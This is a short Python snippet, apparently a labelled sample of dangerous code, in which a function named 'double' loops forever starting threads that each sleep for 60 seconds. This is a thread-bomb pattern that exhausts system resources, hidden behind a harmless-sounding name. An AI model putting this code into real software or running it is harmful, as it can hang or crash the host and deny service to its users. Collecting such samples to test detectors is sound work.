# Starts threads without end.
# %% double
import threading, time


def double(x):
    while True:
        threading.Thread(target=time.sleep, args=(60,)).start()
